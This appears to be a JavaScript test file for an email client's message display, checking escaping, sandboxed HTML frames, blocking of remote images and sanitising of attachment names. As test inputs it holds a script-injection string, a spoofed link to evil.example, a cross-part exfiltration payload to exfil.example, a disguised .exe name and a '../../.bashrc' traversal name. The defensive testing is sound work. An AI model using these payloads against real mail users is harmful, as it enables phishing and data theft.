/**
 * Claims about the parts of a message on the screen. What HTML looks like is shown by the browsers
 * (tests/e2e/test_content.py): a document without a browser loads no frame.
 */

import assert from "node:assert/strict";
import { test } from "node:test";
import { enter, locale, page } from "../support/dom.js";
import { install } from "../support/fake-browser.js";
import { SAMPLES, opened } from "../support/samples.js";

install(locale("en"), "en");
enter(page("<html lang=en><body></body></html>"));
const { fileName } = await import("../../src/ui/attachments.js");
const { partsView } = await import("../../src/ui/parts.js");

const [text, file] = SAMPLES.valid.parts;
const settled = () => new Promise((resolve) => setTimeout(resolve, 30));

/**
 * @param {Partial<import("../../src/lib/shapes.js").Part>[]} parts
 * @param {Record<string, string>} bodies
 * @param {Partial<import("../../src/lib/shapes.js").Verdict>} [verdict]
 */
async function shown(parts, bodies, verdict = {}) {
  const message = { ...opened(verdict), parts: parts.map((part) => ({ ...text, ...part })) };
  const view = partsView(message, { fetch: async (id) => new Blob([bodies[id]]), text: async (id) => bodies[id] });
  await settled();
  return view;
}

test("text is shown as text: markup in it is none, and what cannot be seen is shown", async () => {
  const words = '<script>alert(1)</script><img src="https://tracker.example/"> invoice\u202efdp.exe';
  const view = await shown([{ id: "1" }], { 1: words });
  assert.equal(view.querySelector("pre")?.textContent, words.replace("\u202e", "⟦RLO⟧"));
  assert.equal(view.querySelector("script, img"), null);
});

test("flowed text is put together, with its quotes apart", async () => {
  const view = await shown([{ id: "1", format: "flowed" }], { 1: "> Is it \r\n> ready?\r\nYes, \r\nit is.\r\n" });
  const pieces = [...view.querySelectorAll("[data-depth]")];
  assert.deepEqual(pieces.map((piece) => [piece.getAttribute("data-depth"), piece.textContent]), [["1", "Is it ready?"], ["0", "Yes, it is."]]);
});

test("the links of a text are told below it, and open in a tab that knows nothing of the mail", async () => {
  const view = await shown([{ id: "1" }], { 1: "See https://muster.example/offer." });
  const link = /** @type {HTMLAnchorElement} */ (view.querySelector(".links a"));
  assert.deepEqual([link.href, link.target, link.rel], ["https://muster.example/offer", "_blank", "noopener noreferrer"]);
  assert.equal(view.querySelector(".links b")?.textContent, "muster.example");
});

test("a link that says one address and leads to another is called that", async () => {
  const view = await shown([{ id: "1", type: "text/html" }], { 1: '<a href="https://evil.example/">www.bank.example</a>' });
  assert.match(view.querySelector(".links__differs")?.textContent ?? "", /another address/);
});

test("HTML is put into a frame that runs nothing, fetches nothing and leads nowhere", async () => {
  const view = await shown([{ id: "1", type: "text/html" }], { 1: "<p>x</p>" });
  const frame = /** @type {HTMLIFrameElement} */ (view.querySelector("iframe"));
  assert.equal(frame.getAttribute("sandbox"), "allow-same-origin");
  assert.match(frame.src, /\/ui\/mail\.html$/);
  assert.equal(frame.getAttribute("referrerpolicy"), "no-referrer");
  assert.ok(frame.title);
});

test("pictures from elsewhere wait for a person", async () => {
  const html = '<img src="https://tracker.example/1"><img src="https://tracker.example/2">';
  const view = await shown([{ id: "1", type: "text/html" }], { 1: html });
  const remark = /** @type {HTMLElement} */ (view.querySelector(".part__remark"));
  assert.match(remark.textContent ?? "", /not loaded: 2\./);
  remark.querySelector("button")?.click();
  await settled();
  assert.match(view.querySelector("iframe")?.src ?? "", /\/ui\/mail-pictures\.html$/);
  assert.equal(view.querySelector(".part__remark"), null);
});

test("in encrypted mail they are never loaded, opened or not", async () => {
  for (const status of /** @type {const} */ (["decrypted", "undecryptable", "refused"])) {
    const verdict = { encryption: { status, authenticated: true } };
    const view = await shown([{ id: "1", type: "text/html" }], { 1: '<img src="https://tracker.example/1">' }, verdict);
    assert.match(view.querySelector(".part__remark")?.textContent ?? "", /not loaded: 1\. In an encrypted mail/);
    assert.equal(view.querySelector(".part__remark button"), null);
  }
});

test("every part is a document of its own", async () => {
  const parts = [{ id: "1", type: "text/html" }, { id: "2" }, { id: "3", type: "text/html" }];
  const view = await shown(parts, { 1: '<img src="https://exfil.example/', 2: "the secret", 3: '">' });
  assert.equal(view.querySelectorAll("iframe").length, 2);
  assert.equal(view.querySelector("pre")?.textContent, "the secret");
});

test("of alternatives one is shown, and the other one press away, with the focus where it was", async () => {
  const parts = [{ id: "1.1", choices: ["1.1"] }, { id: "1.2", type: "text/html", choices: ["1.2"] }];
  const view = await shown(parts, { 1.1: "plain", 1.2: "<p>rich</p>" });
  document.body.replaceChildren(view);
  const toggle = () => /** @type {HTMLButtonElement} */ (view.querySelector(".parts__form"));
  assert.deepEqual([view.querySelectorAll("iframe").length, view.querySelector("pre")], [1, null]);
  assert.equal(toggle().textContent, "Show as plain text");
  toggle().click();
  await settled();
  assert.equal(view.querySelector("pre")?.textContent, "plain");
  assert.equal(view.querySelector("iframe"), null);
  assert.equal(document.activeElement, toggle());
  assert.equal(toggle().textContent, "Show with formatting");
});

test("where nothing is signed, nothing is said about it part by part", async () => {
  const unsigned = await shown([{ id: "1", covered: false }], { 1: "x" }, { signature: { status: "none", covers: [] } });
  assert.doesNotMatch(unsigned.textContent ?? "", /signature/);
  const partial = await shown([{ id: "1", covered: false }], { 1: "x" }, { signature: { status: "partial", covers: [] } });
  assert.match(partial.textContent ?? "", /not protected by any signature/);
});

test("a long text waits until it is asked for, and a very long one is for saving", async () => {
  const view = await shown([{ id: "1", size: 300_000 }, { id: "2", size: 5_000_000 }], { 1: "long", 2: "longer" });
  assert.equal(view.querySelector("pre"), null);
  const buttons = [...view.querySelectorAll(".part__body button")];
  assert.equal(buttons.length, 1);
  /** @type {HTMLButtonElement} */ (buttons[0]).click();
  await settled();
  assert.equal(view.querySelector("pre")?.textContent, "long");
});

test("what cannot be fetched is said, and the rest stays", async () => {
  const { Failure } = await import("../../src/lib/failure.js");
  const view = partsView(SAMPLES.valid, { fetch: async () => Promise.reject(Failure.own("host_lost")), text: async () => Promise.reject(Failure.own("host_lost")) });
  await settled();
  assert.match(view.querySelector("[role=alert]")?.textContent ?? "", /could not be fetched/);
  assert.equal(view.querySelectorAll("article").length, 2);
});

test("an attachment's name names a file and nothing else", () => {
  const names = ["../../.bashrc", "a/b\\c.txt", "invoice\u202efdp.exe", "...", "", null, "x".repeat(400)];
  const made = names.map((name) => fileName({ ...file, name }));
  assert.deepEqual(made.slice(0, 6), ["_.._.bashrc", "a_b_c.txt", "invoice_fdp.exe", "part-1-2.bin", "part-1-2.bin", "part-1-2.bin"]);
  assert.equal(made[6].length, 200);
});
